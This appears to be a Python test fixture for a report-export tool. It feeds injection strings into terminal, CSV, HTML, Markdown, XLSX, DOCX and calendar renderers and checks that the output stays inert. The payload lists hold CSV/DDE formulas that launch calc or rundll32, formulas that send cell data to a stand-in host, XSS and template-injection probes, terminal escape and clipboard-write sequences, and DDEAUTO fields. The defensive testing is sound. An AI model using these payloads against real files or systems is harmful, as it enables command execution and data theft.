"""Texts that try to be more than text, and a check for each format of whether anything of them is alive.

``STRINGS`` is the list; ``alive(format, data)`` names what a program that opens ``data`` would act on. A terminal
acts on escapes, a spreadsheet on formulas and links, a browser on tags and handlers, Word on fields, a calendar on
components and properties.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable, Iterator, Mapping
from datetime import UTC, date, datetime
from html.parser import HTMLParser
from xml.etree import ElementTree as ET

from tuphap_cli.reports.base import Agenda, Column, Event, Json, Line, Report, Table

_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.vn/?"&A1,"xem")', '=WEBSERVICE("http://x.vn")', "@SUM(1+1)",
    "+1+1", "-1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "==1", "'=1+1", "''=1+1", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", ";=1+1", ",=1+1", '",=1+1,"', "a;=1+1;b",
    '"=1+1"', "{=1+1}", "=IMPORTXML(CONCAT(\"http://x.vn/\",A1),\"//a\")", "%0A=1+1", "=rundll32|'x'!A", "0=1+1",
)  # fmt: skip
_ESCAPES = (
    "\x1b[31mđỏ", "\x1b[2J", "\x1b[H\x1b[2Jxong", "\x1b]0;tên\x07", "\x1b]8;;http://x.vn\x1b\\nút\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJm\x07", "\x1bc", "\x1b(0lqk", "\x1b[?1049h", "\x1b[6n", "\x1bP1$r\x1b\\", "\x1b_x\x1b\\",
    "\x1b^x\x1b\\", "\x9b31mđỏ", "\x9d0;tên\x9c", "\x90q\x9c", "\x07", "\x08\x08\x08xong", "a\rb", "a\x0bb", "a\x0cb",
    "\x00", "a\x00b", "\x7f", "\x85dòng", "\x1b", "\x1b[", "\x1b[38;5;196mđỏ", "\x1b\x1b[31m[31m", "a\x1b[1A\x1b[2Kb",
)  # fmt: skip
_TURNED = (
    "\u202etxt.exe", "\u202dabc", "\u2066abc\u2069", "\u2067abc", "\u2068abc\u2069", "\u200fabc", "\u200eabc",
    "\u061cabc", "\u202aabc\u202c", "Rà \u202eđảo\u202c soát", "a\u2028b", "a\u2029b", "\u200d\u200c\u2060",
)  # fmt: skip
_MARKUP = (
    "[/red]", "[red]đỏ[/red]", "[bold]a", "[link=http://x.vn]a[/link]", "[@click=app.bell]a[/]", ":smile:", "[[",
    "[abc]",
    "\\[red]", "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>', "' onmouseover='alert(1)", '" onmouseover="alert(1)', "javascript:alert(1)",
    "<a href=javascript:alert(1)>a</a>", "<iframe src=http://x.vn>", "<!--", "-->", "]]>", "<![CDATA[a]]>",
    "&lt;script&gt;",
    "&#60;script&#62;", "&amp;lt;b&amp;gt;", "<style>*{display:none}</style>", "</style><b>",
    "</title><script>1</script>",
    "<base href=http://x.vn>", "<meta http-equiv=refresh content=0>", "{{ 7*7 }}", "{% for a in b %}", "{# a #}",
    "{{body}}",
    "${7*7}", "%(name)s", "{0.__class__}", "{value}", "<w:fldSimple w:instr='DDE'/>", "DDEAUTO c:\\windows\\calc.exe",
    "{ INCLUDEPICTURE \"http://x.vn/a.png\" }", "<w:r/>", "</w:t></w:r></w:p>", "_x0041_", "_x000D_",
)  # fmt: skip
_LINKS = (
    "http://x.vn/a?b=c", "https://x.vn", "mailto:a@x.vn", "file:///etc/passwd", "\\\\x.vn\\a", "internal:Sheet1!A1",
    "external:a.xlsx", "[a](http://x.vn)", "![a](http://x.vn/a.png)", "<http://x.vn>", "[a]: http://x.vn",
    "| a | b |",
    "```", "# a", "- [x] a", "**a**", "a\n\n# b", "a\n| b |", "\\| a",
)  # fmt: skip
_CALENDARS = (
    "BEGIN:VEVENT", "a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:b", "a\nATTACH:http://x.vn/a.exe", "a\r\n b",
    "a\rRRULE:FREQ=DAILY", "END:VCALENDAR", "a, b; c: d", "C:\\Nhan\\nam", "\\N", "\\n", "\\,", "a\\", "a\\\nb",
    ';ALTREP="http://x.vn":a', 'ALTREP="x', "^n^^^'", "😀" * 60, "e\u0323\u0302" * 40, "Rà soát, đôn đốc; " * 14,
)  # fmt: skip
STRINGS = (*_FORMULAS, *_ESCAPES, *_TURNED, *_MARKUP, *_LINKS, *_CALENDARS)

# Every code that steers a terminal or turns the direction of writing; the end of a line is none.
STEERING = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
COLOURS = re.compile(r"\x1b\[[0-9;]*m")  # of the program's own tables on a terminal
_QUOTED = re.compile(r'(?:"(?:[^"]|"")*"(?:,|\r\n))*')
_FORMULA = re.compile(r"[=+@＝＋＠－\t\r\n-]")


def report(text: str) -> Report:
    """A report that holds ``text`` wherever text can stand."""
    columns = (Column(text), Column("Việc", flexible=True), Column("Số", right=True))
    lines = (Line((text, text, 1)), Line((1, text, 2), "bad"), Line((text, "", 3), "head"))
    table = Table(columns, lines, title=text, part=text, intro=(text,), footer=(text, text, 6))
    listed = Table((Column("Việc"),), (Line((text,)),), title=text)
    empty = Table((Column("Việc"),), (), empty=text)
    rows: list[dict[str, Json]] = [
        {"task": 1, "title": text, "units": [text, text]},
        {"task": 2, "title": f"a{text}", "units": []},
    ]
    events = (
        Event("deadline-1", date(2021, 7, 16), text, (text, f"a{text}")),
        Event("x", date(2021, 7, 9), text, (), 3),
    )
    return Report("tuphap.test/1", date(2021, 7, 9), rows, title=text, heading=(text,), tables=(table, listed, empty),
                  closing=(text,), more={"said": text},
                  agenda=Agenda(events, "0" * 64, 1, datetime(2021, 7, 9, tzinfo=UTC)))  # fmt: skip


def alive(form: str, data: bytes) -> list[str]:
    """What in ``data`` a program of format ``form`` would act on; [] where all of it is text."""
    return CHECKS[form](data)


def _screen(data: bytes) -> list[str]:
    return STEERING.findall(COLOURS.sub("", data.decode("utf-8")))


def _plain(data: bytes) -> list[str]:
    return STEERING.findall(data.decode("utf-8"))


def _json(data: bytes) -> list[str]:
    text = data.decode("utf-8")
    json.loads(text)
    return STEERING.findall(text)


def _csv(data: bytes) -> list[str]:
    text = data.decode("utf-8")
    found = [] if _QUOTED.fullmatch(text) else ["a field without quotation marks"]
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    found += [f"a formula: {field!r}" for row in rows for field in row if _FORMULA.match(field)]
    return found + [f"{len(row)} fields" for row in rows if len(row) != len(rows[0])] + _steering_but_line_ends(text)


def _tsv(data: bytes) -> list[str]:
    rows = [line.split("\t") for line in data.decode("utf-8").removesuffix("\n").split("\n")]
    found = [f"a formula: {field!r}" for row in rows for field in row if _FORMULA.match(field)]
    found += [f"{len(row)} fields" for row in rows if len(row) != len(rows[0])]
    return found + [sign for row in rows for field in row for sign in STEERING.findall(field)]


def _steering_but_line_ends(text: str) -> list[str]:
    return STEERING.findall(text.replace("\r\n", "\n"))


class _Page(HTMLParser):
    """What a browser would find on a page."""

    LIVE = frozenset(
        {"img", "iframe", "object", "embed", "base", "form", "input", "a", "link", "frame", "audio", "video"}
    )

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.scripts = self.styles = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.scripts += tag == "script"
        self.styles += tag == "style"
        if tag in self.LIVE:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"href", "src", "action", "srcset", "style"}:
                self.found.append(f"{name}={value}")
            if tag == "meta" and (name, value) == ("http-equiv", "refresh"):
                self.found.append("refresh")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"a comment: {data}")


def _html(data: bytes) -> list[str]:
    page = _Page()
    page.feed(text := data.decode("utf-8"))
    page.close()
    extra = [f"{page.scripts} scripts"] * (page.scripts != 1) + [f"{page.styles} styles"] * (page.styles != 1)
    return page.found + extra + STEERING.findall(text)


def _markdown(data: bytes) -> list[str]:
    """What CommonMark with tables makes of it besides headings, paragraphs, lists and tables."""
    from markdown_it import MarkdownIt

    text = data.decode("utf-8")
    known = {"text", "softbreak", "hardbreak", "html_inline"}
    found: list[str] = []
    for token in MarkdownIt("commonmark", {"html": True}).enable("table").parse(text):
        if token.type == "html_block":
            found.append(token.content)
        found += [
            f"{child.type}: {child.content}"
            for child in token.children or ()
            if child.type not in known or (child.type == "html_inline" and child.content != "<br>")
        ]
    return found + STEERING.findall(text)


def _parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {
            name: package.read(name).decode("utf-8")
            for name in package.namelist()
            if name.endswith((".xml", ".rels"))
        }


def _tags(xml: str) -> list[tuple[str, Mapping[str, str]]]:
    return [(element.tag.rpartition("}")[2], element.attrib) for element in ET.fromstring(xml).iter()]


def _xlsx(data: bytes) -> list[str]:
    found = []
    for name, xml in _parts(data).items():
        for tag, attributes in _tags(xml):
            if name.startswith("xl/worksheets/") and tag in {
                "f",
                "hyperlink",
                "oleObject",
                "control",
                "legacyDrawing",
            }:
                found.append(f"{name}: {tag}")
            if attributes.get("TargetMode") == "External" or tag in {"ddeLink", "externalBook"}:
                found.append(f"{name}: {tag}")
        found += [f"{name}: {sign!r}" for sign in STEERING.findall(xml.replace("\r\n", "\n"))]
    return found


def _docx(data: bytes) -> list[str]:
    found = []
    allowed = {"PAGE"}  # the number in the header is a field of the template
    live = {"hyperlink", "object", "attachedTemplate", "subDoc", "altChunk", "control", "dde", "sdt"}
    for name, xml in _parts(data).items():
        for element in ET.fromstring(xml).iter():
            tag = element.tag.rpartition("}")[2]
            field = (element.text or "") if tag == "instrText" else dict(element.attrib).get(_INSTRUCTION, "")
            if tag in live or (field.strip() and field.split()[0] not in allowed):
                found.append(f"{name}: {tag} {field}")
            if element.attrib.get("TargetMode") == "External":
                found.append(f"{name}: {tag}")
        found += [f"{name}: {sign!r}" for sign in STEERING.findall(xml.replace("\r\n", "\n"))]
    return found


def _ics(data: bytes) -> list[str]:
    """What a calendar program would find besides the two events and the one reminder, and lines out of form."""
    text = data.decode("utf-8")
    lines = text.replace("\r\n ", "").split("\r\n")
    names = [re.match(r"[A-Z-]*", line)[0] for line in lines[:-1]]  # type: ignore[index]
    found = [f"a property: {name}" for name in names if name not in _PROPERTIES]
    found += [f"a component: {line}" for line in lines if line.startswith(("BEGIN:", "END:")) and line not in _PARTS]
    counts = [lines.count(line) for line in _PARTS]
    found += [f"{counts} components"] * (counts != list(_PARTS.values()))
    found += [f"a bare comma: {line}" for line in lines if re.search(r"(?<!\\)(?:\\\\)*[,;]", line.partition(":")[2])]
    found += ["a bare end of a line"] * (re.search(r"(?<!\r)\n|\r(?!\n)", text) is not None)
    found += [f"a line of {len(line)} octets" for line in data.split(b"\r\n") if len(line) > 75]
    return found + _steering_but_line_ends(text)


_PARTS = {
    "BEGIN:VCALENDAR": 1,
    "BEGIN:VEVENT": 2,
    "BEGIN:VALARM": 1,
    "END:VALARM": 1,
    "END:VEVENT": 2,
    "END:VCALENDAR": 1,
}
_PROPERTIES = {
    "BEGIN", "END", "VERSION", "PRODID", "CALSCALE", "NAME", "X-WR-CALNAME", "DESCRIPTION", "X-WR-CALDESC", "UID",
    "DTSTAMP", "LAST-MODIFIED", "SEQUENCE", "DTSTART", "DTEND", "TRANSP", "SUMMARY", "ACTION", "TRIGGER",
}  # fmt: skip
_INSTRUCTION = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}instr"
CHECKS: dict[str, Callable[[bytes], list[str]]] = {
    "screen": _screen, "text": _plain, "json": _json, "csv": _csv, "tsv": _tsv, "md": _markdown, "html": _html,
    "xlsx": _xlsx, "docx": _docx, "ics": _ics,
}  # fmt: skip


def drawn(form: str, made: Report) -> bytes:
    """``made`` in a format: "screen" is a terminal of 80 columns, "text" a pipe."""
    from tuphap_cli.render import docx, feeds, html, ics, terminal, xlsx

    if form == "screen":
        return terminal.drawn(made, 80).encode()
    if form in {"docx", "xlsx"}:
        return docx.as_docx(made) if form == "docx" else xlsx.as_xlsx(made)
    if form == "ics":
        return ics.as_ics(made)
    texts: dict[str, Callable[[Report], str | Iterator[str]]] = {
        "text": feeds.as_text, "json": feeds.as_json, "csv": feeds.as_csv, "tsv": feeds.as_tsv,
        "md": feeds.as_markdown, "html": html.as_html,
    }  # fmt: skip
    return "".join(texts[form](made)).encode()
